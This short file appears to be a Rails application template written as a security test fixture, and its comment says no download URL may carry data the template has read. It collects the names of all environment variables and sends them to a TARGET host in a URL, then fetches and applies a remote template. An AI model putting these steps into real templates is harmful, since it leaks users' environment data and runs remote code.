# promise: (see attack.yml) — downloads whose URLs carry data the template read: none may be sent.
leak = ENV.keys.sort.join(",")
get "#{ENV['TARGET']}/notes.txt?leak=#{leak}", "NOTES.md"
append_to_file "NOTES.md", "more\n"
apply "#{ENV['TARGET']}/more.rb"
create_file "kept.txt", "kept\n"
